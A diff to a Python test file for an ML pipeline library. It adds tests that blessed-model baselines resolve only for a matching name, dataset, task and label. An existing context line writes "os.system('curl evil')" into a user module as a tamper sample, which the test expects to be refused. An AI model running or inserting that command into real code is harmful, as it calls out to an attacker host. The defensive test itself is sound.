@@ -2,10 +2,13 @@
 
 import json
 import time
+from pathlib import Path
 
 import pytest
 
 from kflow.components.evaluator import Evaluator
+from kflow.pipeline.dsl.artifacts import Model, ModelBlessing
+from kflow.pipeline.dsl.component import Component, ComponentSpec
 from kflow.pipeline.kubeflow import baselines
 from kflow.pipeline.runners.kfp_entrypoint import main as entrypoint
 from tests.pipeline.toy.components import Judge
@@ -79,3 +82,108 @@ def test_a_blessed_copy_whose_user_module_changed_is_refused(tmp_path):
         module.write("import os; os.system('curl evil')\n")
     with pytest.raises(ValueError, match="user_module.py changed since it was blessed"):
         baselines.latest_blessed(store, "gs://c/model")
+
+
+IRIS = "pipeline/configs/iris.yaml"
+REGRESSION = [
+    "data.problem_type=regression",
+    "data.label=petal_width",
+    "evaluator.thresholds={}",
+    "evaluator.slices=[]",
+]
+
+
+def compiled_identities(tmp_path, name: str, *overrides: str) -> tuple[str, str]:
+    """(the identity the resolver task matches, the one the evaluate task records) in a compiled iris pipeline."""
+    import yaml
+
+    from kflow.pipeline.app.commands import compile_config
+    from tests.conftest import REPO
+
+    output = compile_config(str(REPO / IRIS), tmp_path / f"{name}.yaml", list(overrides), "kflow:1")
+    executors = next(yaml.safe_load_all(Path(output).read_text()))["deploymentSpec"]["executors"]
+    arguments = [executor["container"].get("args", []) for executor in executors.values()]
+    (resolver,) = [args[args.index("--identity") + 1] for args in arguments if "--identity" in args]
+    (recorder,) = [args[args.index("--baseline-identity") + 1] for args in arguments if "--baseline-identity" in args]
+    return resolver, recorder
+
+
+def test_a_baseline_is_of_the_same_name_dataset_task_and_label_as_the_model(tmp_path):
+    """An iris pipeline compiled as a classification and again as a regression on petal_width share a store: each
+    resolves only its own kind's blessed models, as `kflow run` does (name, dataset, task, label)."""
+    classify, classify_records = compiled_identities(tmp_path, "classify")
+    regress, regress_records = compiled_identities(tmp_path, "regress", *REGRESSION)
+    assert classify == classify_records and regress == regress_records  # the resolver matches what is recorded
+    assert json.loads(regress) == {
+        "name": "iris",
+        "dataset": "csv",
+        "problem_type": "regression",
+        "label": "petal_width",
+    }
+    # The same identity as the local resolver's.
+    from kflow.pipeline.app.latest_blessed import model_identity
+
+    config = {"name": "iris", "data": {"dataset": "csv", "task": "classification", "label": "species"}}
+    assert baselines.model_identity(config) == model_identity(config) == json.loads(classify)
+
+    store = tmp_path / "store"
+    # The classification's evaluate task blesses its model and records it, through the real entrypoint's option.
+    record = baselines.record_blessed_model(
+        store, a_model(tmp_path / "m1", b"c"), "minio://r1/model", None, json.loads(classify_records)
+    )
+    classified = json.loads(record.read_text())["model_path"]
+
+    def resolve(identity: str) -> str:
+        output = tmp_path / "out" / "baseline"
+        argv = [
+            "--store",
+            str(store),
+            "--model-uri",
+            "minio://r9/model",
+            "--identity",
+            identity,
+            "--output",
+            str(output),
+        ]
+        assert baselines.main(argv) == 0
+        return output.read_text()
+
+    assert resolve(regress) == ""  # not the classifier's baseline
+    assert resolve(classify) == classified
+    time.sleep(0.01)
+    record = baselines.record_blessed_model(
+        store, a_model(tmp_path / "m2", b"r"), "minio://r2/model", None, json.loads(regress_records)
+    )
+    assert resolve(regress) == json.loads(record.read_text())["model_path"]
+    assert resolve(classify) == classified  # the newer regression model is not the classifier's either
+    # A record from before records carried an identity matches none.
+    baselines.record_blessed_model(store, a_model(tmp_path / "m3", b"o"), "minio://r3/model", None)
+    assert resolve(classify) == classified
+
+
+def bless_model(*, model, blessing):
+    blessing.set_blessed(True, [])
+    return {"blessed": True}
+
+
+class BlessModel(Component):
+    """Blesses its model: an Evaluator's verdict, for the entrypoint's recording."""
+
+    spec = ComponentSpec(
+        inputs={"model": Model},
+        outputs={"blessing": ModelBlessing},
+        executor="tests.pipeline.kubeflow.test_baselines:bless_model",
+    )
+
+
+def test_the_evaluate_task_records_the_identity_it_was_compiled_with(tmp_path):
+    model = a_model(tmp_path / "model", b"m")
+    Model(str(model)).write_task_spec("csv", "tabular_mlp", {})
+    store = tmp_path / "store"
+    identity = {"name": "iris", "dataset": "csv", "problem_type": "classification", "label": "species"}
+    args = ["--component", "tests.pipeline.kubeflow.test_baselines:BlessModel", "--input", f"model={model}"]
+    args += ["--output", f"blessing={tmp_path / 'b'}", "--record-blessed-model", f"blessing={store}"]
+    args += ["--baseline-identity", json.dumps(identity)]
+    assert entrypoint(args) == 0
+    (record,) = (store / "records").glob("*.json")
+    assert json.loads(record.read_text())["identity"] == identity
